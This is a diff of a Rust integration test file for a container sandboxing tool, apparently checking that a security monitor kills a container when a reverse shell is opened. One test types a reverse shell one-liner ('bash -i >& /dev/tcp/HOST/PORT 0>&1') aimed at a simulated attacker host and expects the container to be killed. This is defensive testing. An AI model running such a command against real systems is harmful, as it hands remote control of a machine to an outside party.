@@ -1,7 +1,7 @@
 //! Sessions in a real terminal: attach, detach, and a watch that does not care which.
 
 use coi_tests::incus::{self, Foreign, exec};
-use coi_tests::{Attacker, Coi, DEFAULT, TINY, Terminal, Viewer, actions, end};
+use coi_tests::{Attacker, Coi, DEFAULT, TINY, Terminal, Viewer, actions, end, eventually};
 use serde_json::{Value, json};
 
 /// Types a command whose end cannot be mistaken for its echo.
@@ -15,7 +15,7 @@ fn detached_and_attached_and_killed_while_detached() {
     let coi = Coi::new();
     let name = coi.container();
     let terminal = Terminal::open(&coi);
-    enter(&terminal, "coi shell", "ended");
+    enter(&terminal, "coi shell --tool bash", "ended");
     terminal.until("code@");
     terminal.enter("here=$((20+22)); echo \"here\"=$here $PWD");
     terminal.until("here=42 /workspace");
@@ -44,7 +44,7 @@ fn detached_and_attached_and_killed_while_detached() {
     let attack = end(&mut exec(&name, "/workspace", &["bash", "-c", &attack]));
     assert_ne!(attack.code, 0);
     viewer.until_state("killed");
-    assert_eq!(incus::instance(&name), None);
+    eventually("it is gone", || incus::instance(&name).is_none());
     assert_eq!(
         actions(&coi.audit(&name)),
         [("reverse-shell-socket".into(), "kill".into(), "success".into())]
@@ -59,14 +59,14 @@ fn killed_while_attached_and_ended_by_exit() {
     let coi = Coi::new();
     let name = coi.container();
     let terminal = Terminal::open(&coi);
-    enter(&terminal, "coi shell", "over");
+    enter(&terminal, "coi shell --tool bash", "over");
     terminal.until("code@");
     terminal.enter("exit 0");
     terminal.until("over:0");
     assert_eq!(incus::instance(&name), None);
 
     let attacker = Attacker::on_bridge();
-    enter(&terminal, &format!("coi shell --image {DEFAULT}"), "killed");
+    enter(&terminal, &format!("coi shell --tool bash --image {DEFAULT}"), "killed");
     terminal.until("code@");
     terminal.enter(&attacker.fill("bash -i >& /dev/tcp/HOST/PORT 0>&1"));
     let screen = terminal.until("killed:137");
